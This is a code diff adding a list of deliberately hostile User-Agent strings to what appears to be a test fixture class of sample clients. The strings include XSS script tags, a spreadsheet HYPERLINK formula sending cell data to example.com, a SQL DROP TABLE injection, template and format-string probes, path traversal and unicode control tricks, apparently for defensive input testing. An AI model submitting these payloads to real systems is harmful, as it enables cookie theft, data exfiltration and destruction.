@@ -33,6 +33,18 @@ internal static class Clients
         "Kodi/21.1 (Linux; Android 11)",
     ];
 
+    private static readonly string[] HostileAgents =
+    [
+        "<script>alert(document.cookie)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
+        "'; DROP TABLE decisions; --",
+        "{{7*7}} ${7*7} %n%n%n ..\\..\\etc",
+        "\u202Eevil\u0085\u2028Firefox/131.0",
+    ];
+
+    public static ReadOnlySpan<string> Hostile => HostileAgents;
+
     public static ReadOnlySpan<string> Desktop => DesktopAgents;
 
     public static ReadOnlySpan<string> Phone => PhoneAgents;
